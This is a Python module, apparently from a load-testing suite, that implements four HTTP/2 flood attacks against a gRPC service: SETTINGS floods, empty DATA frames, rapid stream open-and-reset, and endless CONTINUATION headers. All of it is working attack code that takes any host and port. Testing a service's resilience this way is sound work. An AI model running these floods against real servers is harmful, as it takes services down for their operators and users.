"""Frames of HTTP/2 without an end, from who has no key and comes back at once: attacks of `loadtests.fairness`."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import time
from collections.abc import Iterator
from typing import NamedTuple

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9  # types of frames (RFC 9113, section 6)
END_STREAM, END_HEADERS = 1, 4  # flags
CANCEL = (8).to_bytes(4)  # an error code
FIRST_STREAM = 1
CALL = {
    b":method": b"POST",
    b":scheme": b"http",
    b":path": b"/lexiseg.v1.Segmentation/SegmentVideo",
    b":authority": b"localhost",
    b"content-type": b"application/grpc",
    b"te": b"trailers",
}
# Literals without indexing, not compressed (RFC 7541, section 6.2.2); no length is above 126.
HEADS = b"".join(b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in CALL.items())
N_FRAMES = 8000  # at once
N_CALLS = 200  # likewise
LONGEST = 2**14  # bytes of a frame
N_LONGEST = 16  # of them at once
KINDS = ("settings", "empty", "calls", "heads")


class Flood(NamedTuple):
    """What is sent where: `settings`, `empty` frames of one call, `calls` that are begun and reset, or `heads` of calls
    that never end, of long values."""

    host: str
    port: int
    kind: str


async def flood(target: Flood, until: float) -> int:
    """One connection after the other; gives how many of them were ended.

    Args:
        target: where to, and what.
        until: seconds of `time.perf_counter`.
    """
    n_ended = 0
    while time.perf_counter() < until:
        with contextlib.suppress(OSError, TimeoutError):
            async with asyncio.timeout(until - time.perf_counter()):
                await _until_it_ends(target)
        n_ended += time.perf_counter() < until
    return n_ended


async def _until_it_ends(target: Flood) -> None:
    reader, writer = await asyncio.open_connection(target.host, target.port)

    async def read() -> None:  # a client that does not would be ended for that
        while await reader.read(2**16):
            pass

    reading = asyncio.ensure_future(read())
    try:
        for piece in _pieces(target.kind):
            writer.write(piece)
            await writer.drain()
    finally:
        reading.cancel()
        with contextlib.suppress(OSError, asyncio.CancelledError):
            await reading
        writer.transport.abort()


def _pieces(kind: str) -> Iterator[bytes]:
    yield PREFACE + frame(SETTINGS)
    if kind == "calls":
        for first in itertools.count(FIRST_STREAM, 2 * N_CALLS):
            streams = range(first, first + 2 * N_CALLS, 2)
            yield b"".join(_begun(stream, END_STREAM) + frame(RESET, stream=stream, body=CANCEL) for stream in streams)
    if kind == "heads":
        yield frame(HEADERS, stream=FIRST_STREAM, body=HEADS)
        yield from itertools.repeat(frame(CONTINUATION, stream=FIRST_STREAM, body=_value()) * N_LONGEST)
    if kind == "empty":
        yield _begun(FIRST_STREAM)
    yield from itertools.repeat((frame(DATA, stream=FIRST_STREAM) if kind == "empty" else frame(SETTINGS)) * N_FRAMES)


def _begun(stream: int, flags: int = 0) -> bytes:
    return frame(HEADERS, END_HEADERS | flags, stream, HEADS)


def _value() -> bytes:
    """A field that fills a frame."""
    length = LONGEST - 6  # what is before the value: its name, and 127 and the rest in groups of seven bits
    return b"\0\1x\x7f" + bytes([(length - 127) & 127 | 128, (length - 127) >> 7]) + b"v" * length


def frame(kind: int, flags: int = 0, stream: int = 0, body: bytes = b"") -> bytes:
    """As it goes over the wire."""
    return len(body).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + body
